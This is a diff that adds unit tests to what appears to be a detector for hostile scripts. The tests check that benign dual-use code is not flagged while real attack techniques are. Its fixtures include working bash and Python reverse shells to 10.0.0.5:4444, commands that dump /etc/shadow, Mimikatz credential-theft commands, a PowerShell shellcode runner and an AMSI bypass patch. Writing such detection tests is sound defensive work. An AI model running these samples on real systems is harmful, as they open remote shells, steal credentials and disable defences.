@@ -136,6 +136,49 @@ describe('dual-use capabilities of real software stay below an attack (issue 30)
     ].join('\n');
     expect(technique(smtp, 'revshell.php')).toBeUndefined();
   });
+  it('a /dev/tcp client that sends a request and reads the answer is not a reverse shell; wiring a shell to it is', () => {
+    const client = '#!/bin/bash\nexec 3<>/dev/tcp/$HOST/$PORT\necho -e "GET / HTTP/1.1\\r\\nHost: $HOST\\r\\n\\r\\n" >&3\ncat <&3\nexec 3>&-\n';
+    const reader = '#!/bin/sh\nexec 4<>/dev/tcp/$1/$2\nwhile read -r line <&4; do echo "$line"; done\n';
+    for (const text of [client, reader]) {
+      expect(technique(text, 'revshell.bash_dev_tcp')).toBeUndefined();
+      expect(analyzeScriptText(text).findings.find((f) => f.id === 'script.reverse_shell.dev_tcp')).toBeUndefined();
+    }
+    for (const text of [
+      '0<&196;exec 196<>/dev/tcp/10.0.0.5/4444; sh <&196 >&196 2>&196',
+      'exec 3<>/dev/tcp/10.0.0.5/4444\nwhile read -r cmd <&3\ndo\n  eval "$cmd" >&3 2>&3\ndone',
+      '/bin/bash -l > /dev/tcp/10.0.0.5/4444 0<&1 2>&1',
+    ]) {
+      expect(technique(text, 'revshell.bash_dev_tcp')?.severity).toBe('critical');
+      expect(analyzeScriptText(text).findings.find((f) => f.id === 'script.reverse_shell.dev_tcp')).toBeDefined();
+    }
+  });
+  it('a program reading /etc/shadow (a password helper, an audit tool) is low alone; dumping it with a command is high', () => {
+    const helper = 'def locked(user):\n    for line in open("/etc/shadow", "r"):\n        name, pw = line.split(":")[:2]\n        if name == user:\n            return pw.startswith("!")\n';
+    expect(technique(helper, 'cred.shadow_read')?.severity).toBe('low');
+    expect(technique(helper, 'cred.shadow_file')).toBeUndefined();
+    expect(technique('while IFS=: read u p rest; do [ -z "$p" ] && echo "$u has no password"; done < /etc/shadow', 'cred.shadow_read')?.severity).toBe('low');
+    // Prose naming a tool is not a command.
+    expect(technique('"""Checks /etc/passwd, or python\'s spwd module (which checks /etc/shadow)."""', 'cred.shadow_file')).toBeUndefined();
+    expect(technique('sudo cat /etc/shadow > /tmp/s.txt', 'cred.shadow_file')?.severity).toBe('high');
+    // Read by a program and sent away: the read is high in that company.
+    const sent = `${helper}import socket\ns=socket.socket();s.connect(("10.0.0.5",4444))\nimport os,pty\n[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\n`;
+    expect(technique(sent, 'cred.shadow_read')?.severity).toBe('high');
+  });
+  it("Mimikatz commands are whole words at its prompt, not a framework's static calls", () => {
+    for (const text of ['Event::clearResolvedInstances();', 'Event::clear();', '$all = Vault::list($path);', '$t = Token::list();']) expect(technique(text, 'cred.mimikatz')).toBeUndefined();
+    for (const text of ['mimikatz.exe "event::clear" exit', 'mimikatz # token::elevate', 'vault::cred /patch', 'm.exe "privilege::debug" "sekurlsa::logonpasswords"']) expect(technique(text, 'cred.mimikatz')?.severity).toBe('critical');
+  });
+  it("Windows API names in a word list (a syntax highlighter's keywords) are not a loader; the calls are", () => {
+    const list = `<?php\n$language_data = array('KEYWORDS' => array(5 => array(\n  'CreateFiber', 'CreateRemoteThread', 'CreateThread', 'GetProcAddress', 'LoadLibrary',\n  'RtlMoveMemory', 'VirtualAlloc', 'VirtualAllocEx', 'VirtualProtect', 'WriteProcessMemory', 'OpenProcess'\n)));\n`;
+    expect(technique(list, 'exec.shellcode_runner')).toBeUndefined();
+    expect(technique(list, 'evasion.memory_patch')).toBeUndefined();
+    const runner = '$p = $k::VirtualAlloc(0, $sc.Length, 0x3000, 0x40)\n[Runtime.InteropServices.Marshal]::Copy($sc, 0, $p, $sc.Length)\n$k::CreateThread(0, 0, $p, 0, 0, 0)';
+    expect(technique(runner, 'exec.shellcode_runner')?.severity).toBe('high');
+    // The names listed and then called: the calls still count.
+    expect(technique(`$apis = 'CreateThread', 'VirtualAlloc', 'VirtualFree', 'OpenProcess'\n${runner}`, 'exec.shellcode_runner')?.severity).toBe('high');
+    const patch = '$a = $k::GetProcAddress($h, "AmsiScanBuffer")\n$k::VirtualProtect($a, [uint32]5, 0x40, [ref]$o)\n[Runtime.InteropServices.Marshal]::Copy($b, 0, $a, 6)';
+    expect(technique(patch, 'evasion.memory_patch')?.severity).toBe('high');
+  });
   it('a PHP socket wired to a shell through a variable command is still a reverse shell', () => {
     const shell = "$shell = 'uname -a; id; /bin/sh -i';\n$sock = fsockopen($ip, $port);\n$process = proc_open($shell, $spec, $pipes);";
     expect(technique(shell, 'revshell.php')?.severity).toBe('critical');
